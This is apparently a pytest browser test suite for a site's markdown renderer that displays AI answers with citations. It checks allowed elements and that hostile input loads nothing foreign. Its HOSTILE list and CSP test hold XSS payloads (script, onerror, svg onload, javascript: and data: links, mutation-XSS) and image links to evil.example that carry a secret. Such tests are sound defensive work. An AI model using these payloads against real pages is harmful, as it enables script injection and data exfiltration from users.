"""The model's text in a real browser: what becomes an element, and that nothing foreign is ever asked for."""

from __future__ import annotations

from typing import Any

import pytest
from pytest_django.live_server_helper import LiveServer

from querying.text.inert import inert
from tests.browser import Browser
from tests.factories import make_corpus

pytestmark = pytest.mark.browser

ALLOWED = {
    "p", "br", "strong", "em", "del", "code", "pre", "blockquote", "hr", "ul", "ol", "li",
    "h3", "h4", "h5", "h6", "div", "table", "thead", "tbody", "tr", "th", "td", "span", "button",
}  # fmt: skip
ATTRIBUTES = {"class", "type", "start", "tabindex"}

# Citations 1 and 2 exist. Shows the text as HTML, and what it needed.
RENDER = """
const [text, known] = arguments;
const box = document.getElementById("answer");
document.getElementById("result").hidden = false;
ragsite.markdown.clear(box);
const citation = (number) => {
  if (!known.includes(number)) return null;
  const button = document.createElement("button");
  button.type = "button";
  button.textContent = number;
  return button;
};
ragsite.markdown.update(box, text, { citation, signature: "" });
return {
  html: box.innerHTML,
  text: box.textContent,
  names: [...box.querySelectorAll("*")].map((element) => element.localName),
  attributes: [...box.querySelectorAll("*")].flatMap((element) => element.getAttributeNames()),
};
"""


@pytest.fixture
def page(browser: Browser, live_server: LiveServer) -> Browser:
    make_corpus(is_public=True)
    browser.open(live_server.url)
    return browser


def render(page: Browser, text: str) -> dict[str, Any]:
    shown: dict[str, Any] = page.run(RENDER, text, [1, 2])
    return shown


CASES = [
    ("one\ntwo", "<p>one\ntwo</p>"),
    ("one\n\ntwo", "<p>one</p><p>two</p>"),
    ("one  \ntwo", "<p>one<br>two</p>"),
    ("**bold** and *thin* and ~~gone~~", "<p><strong>bold</strong> and <em>thin</em> and <del>gone</del></p>"),
    ("***both***", "<p><strong><em>both</em></strong></p>"),
    ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"),
    ("**never closed", "<p>**never closed</p>"),
    (r"\*stars\*", "<p>*stars*</p>"),
    ("`a*b*` and ``c`d``", "<p><code>a*b*</code> and <code>c`d</code></p>"),
    ("# Title\ntext", "<h3>Title</h3><p>text</p>"),
    ("###### Deep", "<h6>Deep</h6>"),
    ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
    ("- a\n  - b\n  - c\n- d", "<ul><li>a<ul><li>b</li><li>c</li></ul></li><li>d</li></ul>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("1. a\n\n2. b", '<ol start="1"><li>a</li><li>b</li></ol>'),
    ("text\n- a\n\nafter", "<p>text</p><ul><li>a</li></ul><p>after</p>"),
    ("> said\n> so", "<blockquote><p>said\nso</p></blockquote>"),
    ("---", "<hr>"),
    ("```py\n<b>x</b>\n```\nafter", '<pre tabindex="0"><code>&lt;b&gt;x&lt;/b&gt;</code></pre><p>after</p>'),
    ("```\nstill coming", '<pre tabindex="0"><code>still coming</code></pre>'),
    (
        "| a | b |\n|---|:-:|\n| 1 | **2** |",
        '<div class="table" tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead>'
        "<tbody><tr><td>1</td><td><strong>2</strong></td></tr></tbody></table></div>",
    ),
    (
        "Thirty days [1].",
        '<p>Thirty <span class="together">days<button type="button">1</button></span>.</p>',
    ),
    (
        "days.[1][2] Then",
        '<p><span class="together">days.<button type="button">1</button><button type="button">2</button></span>'
        " Then</p>",
    ),
    ("[1, 2]", '<p><span class="together"><button type="button">1</button><button type="button">2</button></span></p>'),
    ("[7] and [1, 7] are nothing", "<p>[7] and [1, 7] are nothing</p>"),
    ("`[1]` is code", "<p><code>[1]</code> is code</p>"),
    # links stay text, and an address that could do something is not even shown
    ("[text](https://example.org/a)", "<p>text (https://example.org/a)</p>"),
    ("[text](javascript:alert(1))", "<p>text</p>"),
    ("[text](data:text/html,x)", "<p>text</p>"),
    ("[text][ref]", "<p>text</p>"),
    ("[text][1]", '<p><span class="together">[text]<button type="button">1</button></span></p>'),
    ("![alt](https://example.org/a.png)", "<p>alt</p>"),
    ("![alt][ref]", "<p>alt</p>"),
    ("![a ![b](x) c](https://example.org/a.png)", None),
    ("<b>not bold</b>", "<p>&lt;b&gt;not bold&lt;/b&gt;</p>"),
]


@pytest.mark.django_db
def test_markdown_becomes_these_elements(page: Browser) -> None:
    for text, html in CASES:
        if html is not None:
            assert render(page, text)["html"] == html, text


HOSTILE = [
    '<img src="https://evil.example/a.png" onerror="document.title=1">',
    "<script>document.title='owned'</script>",
    "<svg onload=\"document.title='owned'\"><image href='https://evil.example/a'/></svg>",
    "<iframe src='https://evil.example/'></iframe><style>@import 'https://evil.example/a.css'</style>",
    "![x](https://evil.example/a.png?secret=1)",
    "![x](//evil.example/a.png)",
    "![x]( <https://evil.example/a.png> 'title' )",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    "[x](javascript:document.title='owned')",
    "[x](JaVaScRiPt:document.title='owned')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](\tjavascript:x)",
    "<https://evil.example/a.png> https://evil.example/b",
    "[[[[[[x](https://evil.example)](https://evil.example)]]]]",
    "`<img src=x onerror=y>` ``` <b> ```",
    "| <img src=https://evil.example/a> | b |\n|---|---|\n| ![x](https://evil.example/a) | <script>x</script> |",
    "- <img src=https://evil.example/a>\n  - ![x](https://evil.example/b)\n> ![x](https://evil.example/c)",
    "# <img src=https://evil.example/a> ![x](https://evil.example/b)",
    '[1](https://evil.example/a.png) ![1](https://evil.example/a.png) [1" onclick="x]',
    '</p></div><img src="https://evil.example/a.png">',
    "<a href='https://evil.example' style='position:fixed;inset:0'>x</a>",
    "&lt;img src=x&gt; &#60;script&#62;",
    "<math><mtext><table><mglyph><style><img src=https://evil.example/a>",
    "__proto__ [constructor](x) ![toString](y)",
]


@pytest.mark.django_db
def test_hostile_text_makes_only_harmless_elements_and_asks_for_nothing(page: Browser) -> None:
    title, loaded = page.driver.title, set(page.fetched())
    for text in HOSTILE:
        shown = render(page, text)
        assert set(shown["names"]) <= ALLOWED, text
        assert set(shown["attributes"]) <= ATTRIBUTES, text
    page.run("return new Promise((done) => setTimeout(done, 300))")  # a request would have started by now
    assert page.driver.title == title
    assert set(page.fetched()) == loaded
    assert page.complaints() == []


DOCUMENTS = [
    "He wrote a*b*c, map[7], map[1], __init__, <b>, &copy; [x][1], a ` b and C:\\*x.",
    "See [x](https://evil.example) and https://evil.example/a, www.evil.example or anna@evil.example.",
    "![a ![b](x) c](https://evil.example/a.png) <https://evil.example> [[x](https://evil.example)](y)",
]


@pytest.mark.django_db
def test_a_quote_shows_exactly_what_the_document_says_and_nothing_of_it_is_live(page: Browser) -> None:
    loaded = set(page.fetched())
    for text in [*DOCUMENTS, *HOSTILE]:
        line = " ".join(text.split())
        shown = render(page, f"“{inert(line)}” [1]")
        assert set(shown["names"]) <= {"p", "span", "button", "code", "strong", "em", "del"}, text
        assert shown["names"].count("button") == 1, text
        if text in DOCUMENTS:
            assert shown["text"] == f"“{line}”1"
    page.run("return new Promise((done) => setTimeout(done, 300))")
    assert set(page.fetched()) == loaded
    assert page.complaints() == []


@pytest.mark.django_db
def test_long_and_nested_text_is_drawn_quickly_and_completely(page: Browser) -> None:
    for text in ["[" * 5000, "*" * 5000, "**a " * 2000, "> " * 500 + "x", "- " * 500 + "x", "`" * 5001, "![" * 3000]:
        started = page.run("return performance.now()")
        render(page, text)
        assert page.run("return performance.now()") - started < 5000, text[:20]
    assert render(page, "_" * 301 + "x")["text"] == "_" * 301 + "x"


@pytest.mark.django_db
def test_a_finished_paragraph_keeps_its_element_while_more_text_comes(page: Browser) -> None:
    kept = page.run(
        """
        const box = document.getElementById("answer");
        const context = { citation: () => null, signature: "" };
        ragsite.markdown.clear(box);
        ragsite.markdown.update(box, "first\\n\\nsec", context);
        const [first, second] = box.children;
        ragsite.markdown.update(box, "first\\n\\nsecond\\n\\n- third", context);
        return [box.children[0] === first, box.children[1] === second, box.textContent];
        """
    )
    assert kept == [True, False, "firstsecondthird"]


@pytest.mark.django_db
def test_even_markup_that_got_into_the_page_could_load_nothing_foreign(page: Browser) -> None:
    """The second wall: the Content-Security-Policy."""
    page.run(
        """
        document.getElementById("answer").innerHTML =
          "<img src='https://evil.example/a.png'><p style='color:red' onclick='x'>x</p>";
        const script = document.createElement("script");
        script.textContent = "document.title = 'owned'";
        document.body.append(script);
        """
    )
    complaints = page.wait_for(page.complaints)
    assert any("evil.example" in line and "Content Security Policy" in line for line in complaints)
    assert page.driver.title != "owned"
